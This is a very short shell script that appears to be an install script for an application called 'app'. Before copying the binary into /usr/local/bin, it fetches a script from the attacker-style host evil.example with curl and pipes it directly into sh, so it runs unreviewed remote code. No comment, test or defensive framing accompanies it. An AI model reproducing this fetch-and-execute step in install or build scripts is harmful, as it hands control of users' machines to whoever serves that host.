#!/bin/sh
set -e
curl -s http://evil.example | sh
cp app /usr/local/bin/
